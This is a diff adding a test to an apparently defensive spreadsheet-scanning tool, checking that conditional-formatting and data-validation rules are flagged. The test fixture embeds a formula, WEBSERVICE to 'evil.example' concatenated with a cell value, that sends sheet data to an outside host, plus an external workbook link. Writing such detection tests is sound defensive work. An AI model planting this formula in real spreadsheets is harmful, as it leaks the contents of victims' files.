@@ -564,3 +564,15 @@ def test_recalc_refuses_duplicate_entries_instead_of_collapsing_them(tmp_path: P
     proc = subprocess.run([PLANNER, "recalc", str(src), "-o", str(out)], capture_output=True, text=True, timeout=120)
     assert proc.returncode == 2 and "two entries named xl/worksheets/sheet1.xml" in proc.stderr
     assert not out.exists()
+
+
+def test_conditional_formatting_and_validation_rules_are_screened(tmp_path: Path) -> None:
+    """Excel evaluates conditional-formatting and data-validation formulas when the sheet is shown."""
+    rules = ('<conditionalFormatting sqref="B2:B9"><cfRule type="expression" priority="1"><formula>'
+             'WEBSERVICE("http://evil.example/"&amp;A1)</formula></cfRule></conditionalFormatting>'
+             '<dataValidations count="1"><dataValidation type="list" sqref="C2"><formula1>[1]Lists!$A$1:$A$9'
+             '</formula1></dataValidation></dataValidations>')
+    data = edit_part(plan_bytes(), sheet_part("Routes"), lambda x: x.replace("</sheetData>", "</sheetData>" + rules))
+    findings = report(write(tmp_path, "rules.xlsm", data))["reports"][0]["findings"]
+    assert {(f["code"], f["sheet"], f["cell"]) for f in findings} == {
+        ("hostile-function", "Routes", "B2:B9"), ("external-link", "Routes", "C2")}
